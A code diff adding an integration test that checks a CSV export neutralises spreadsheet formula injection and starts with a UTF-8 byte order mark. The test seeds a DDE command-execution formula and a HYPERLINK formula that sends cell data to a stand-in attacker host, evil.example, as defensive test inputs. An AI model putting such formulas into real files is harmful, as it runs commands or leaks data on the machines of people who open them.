@@ -234,3 +234,23 @@ describe('the read model', () => {
     expect(await snapshot()).toEqual(live);
   }, 120_000);
 });
+
+describe('the CSV export in a spreadsheet', () => {
+  it('escapes cells a spreadsheet would run as formulas, and starts with a UTF-8 BOM', async () => {
+    const formula = "=cmd|' /C calc'!A0";
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")';
+    const id = await newVariant(w.as('SELF_SERVICE_ADMIN'), G, formula);
+    const [format] = (await variant(w.su, G, id)).formats.map((f) => f.id) as [string];
+    await headline('+1 Winter sale', [format]);
+    await decide(w.as('MANAGER'), { approvals: [format], final: true, comment: hyperlink });
+
+    const response = await fetch(`${w.t.baseUrl}/api/v1${trail}.csv?filter=${encodeURIComponent(JSON.stringify({ variantId: id }))}`, { headers: { cookie: w.su.cookieHeader() } });
+    expect(response.status).toBe(200);
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect([...bytes.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
+    const rows = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.Variant, r.Comment])).toEqual([[`'${formula}`, `'${hyperlink}`]]);
+    // A cell that only holds a formula somewhere inside (the content's JSON) is left as it is.
+    expect(JSON.parse(rows[0]!.Content!).headline.value).toBe('+1 Winter sale');
+  });
+});
